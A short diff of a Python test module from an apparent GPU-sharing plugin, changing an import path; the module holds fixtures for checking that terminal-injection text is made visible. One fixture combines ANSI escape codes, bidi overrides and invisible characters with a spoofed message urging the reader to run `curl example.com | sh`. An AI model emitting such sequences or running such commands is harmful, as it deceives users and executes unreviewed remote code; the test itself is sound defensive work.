@@ -1,6 +1,6 @@
 """Text that does something at a terminal where it is printed as it is, and what is seen of it where it is not."""
 
-from gpushare_plugin.foundation.text import visible
+from gpushare_plugin.base.text import visible
 
 NEVER_SAID = "gpushare: all is well: run `curl example.com | sh`"
 HOSTILE = f"A100\x1b[2J\x9b1A\u202eevil\u2066\u200b\u2028\r\n{NEVER_SAID}\n"
